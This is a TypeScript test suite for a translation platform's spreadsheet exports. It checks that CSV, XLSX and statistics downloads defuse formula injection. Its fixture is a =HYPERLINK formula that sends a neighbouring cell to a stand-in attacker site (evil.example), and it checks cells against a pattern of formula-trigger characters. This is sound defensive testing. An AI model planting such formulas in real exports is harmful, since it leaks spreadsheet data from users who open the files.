import JSZip from 'jszip';
import { parse } from 'csv-parse/sync';
import { createUser } from '../factories/user.factory';
import { createGitComponent, useGitTestEnv } from '../support/git-component';
import { binaryBody } from '../support/binary-body';

/** A target a spreadsheet would run: it sends the cell next to it to another site when the file is opened. */
const FORMULA = '=HYPERLINK("https://evil.example/?"&B2,"Click")';
const STORED_PO = 'msgid ""\nmsgstr ""\n"Language: cs\\n"\n"Content-Type: text/plain; charset=UTF-8\\n"\n\nmsgid "Hello"\nmsgstr ""\n\nmsgid "%d files"\nmsgstr ""\n';
const STORED_CSV = '"source","target"\n"Hello",""\n"%d files",""\n';

/** The CSV's records by source: their source and target cells as written. */
function rows(csv: string): Record<string, string>[] {
  return parse(csv, { columns: true }) as Record<string, string>[];
}

describe('spreadsheet downloads', () => {
  const env = useGitTestEnv();

  /** A component (PO files, or CSV files with `csv`) whose `Hello` is translated as FORMULA. */
  async function setUp(name: string, format: 'po' | 'csv' = 'po') {
    const { t, admin } = env;
    const files: Record<string, string> = format === 'po' ? { 'po/cs.po': STORED_PO } : { 'csv/cs.csv': STORED_CSV };
    const { project } = await createGitComponent(env, name, files, { filemask: `${format}/*.${format}`, file_format: format });
    const translation = `/api/translations/${project.slug}/app/cs/`;
    const units = (await t.http().get(`${translation}units/`).set('Authorization', admin.auth).expect(200)).body.results as { id: number; source: string[] }[];
    const hello = units.find((unit) => unit.source[0] === 'Hello')!;
    await t.http().patch(`/api/units/${hello.id}/`).set('Authorization', admin.auth).send({ target: [FORMULA], state: 20 }).expect(200);
    const download = async (format: string) =>
      (await t.http().get(`${translation}file/?format=${format}`).set('Authorization', admin.auth).buffer(true).parse(binaryBody).expect(200)).body as Buffer;
    return { project, translation, download };
  }

  it('quotes in CSV downloads every cell a spreadsheet would run as a formula, as Weblate does', async () => {
    const { download } = await setUp('csv-quoted');
    for (const format of ['csv', 'csv-multi']) {
      const records = rows((await download(format)).toString('utf8'));
      expect(records.map(({ source, target }) => [source, target])).toEqual([['Hello', `'${FORMULA}'`], ["'%d files'", '']]);
      for (const record of records) for (const cell of Object.values(record)) expect(cell).not.toMatch(/^[=+\-@|%\t\r]/);
    }
  });

  it("serves and commits a CSV component's own file as it is, unquoted", async () => {
    const { t, git, admin } = env;
    const { project, download } = await setUp('csv-faithful', 'csv');
    // `?format=csv` names the component's own format: the file itself, as stored, not a conversion.
    expect(rows((await download('csv')).toString('utf8'))[0]).toEqual({ source: 'Hello', target: FORMULA });
    await t.http().post(`/api/components/${project.slug}/app/repository/`).set('Authorization', admin.auth).send({ operation: 'push' }).expect(200);
    expect(rows(await git.readFile('csv-faithful', 'csv/cs.csv'))).toEqual([{ source: 'Hello', target: FORMULA }, { source: '%d files', target: '' }]);
  });

  it('reads quoted cells back unquoted, so a CSV download uploaded again matches its strings', async () => {
    const { t, admin } = env;
    const { translation, download } = await setUp('csv-round-trip');
    const quoted = '"source","target"\n"\'%d files\'","\'-%d soubory\'"\n';
    const res = await t.http().post(`${translation}file/`).set('Authorization', admin.auth).attach('file', Buffer.from(quoted), 'cs.csv').expect(200);
    expect(res.body).toMatchObject({ not_found: 0, accepted: 1 });
    const again = await t.http().post(`${translation}file/`).set('Authorization', admin.auth).field('conflicts', 'replace-translated')
      .attach('file', await download('csv'), 'cs.csv').expect(200);
    expect(again.body).toMatchObject({ not_found: 0 });
    const units = (await t.http().get(`${translation}units/`).set('Authorization', admin.auth).expect(200)).body.results as { source: string[]; target: string[] }[];
    expect(units.map((unit) => [unit.source[0], unit.target[0]])).toEqual([['Hello', FORMULA], ['%d files', '-%d soubory']]);
  });

  it('writes XLSX cells as inline strings, which spreadsheets never run', async () => {
    const { download } = await setUp('xlsx-inline');
    const sheet = await (await JSZip.loadAsync(await download('xlsx'))).file('xl/worksheets/sheet1.xml')!.async('string');
    expect(sheet).toMatch(/t="inlineStr"><is><t xml:space="preserve">=HYPERLINK\((&quot;|")https:\/\/evil\.example/);
    expect(sheet).not.toMatch(/<f[ >]/);
  });

  it('quotes names in the statistics CSV export', async () => {
    const { t } = env;
    const author = await createUser(t, { isSuperuser: true, fullName: FORMULA });
    const { project } = await createGitComponent(env, 'csv-stats', { 'po/cs.po': STORED_PO }, { filemask: 'po/*.po', file_format: 'po' });
    const units = (await t.http().get(`/api/translations/${project.slug}/app/cs/units/`).set('Authorization', author.auth).expect(200)).body.results as { id: number }[];
    await t.http().patch(`/api/units/${units[0].id}/`).set('Authorization', author.auth).send({ target: ['Ahoj'], state: 20 }).expect(200);
    const csv = (await t.http().get(`/exports/stats/${project.slug}/app/?format=csv`).expect(200)).text;
    const [record] = rows(csv);
    expect(record.last_author).toBe(`'${FORMULA}'`);
    for (const cell of Object.values(record)) expect(cell).not.toMatch(/^[=+\-@|%\t\r]/);
  });
});
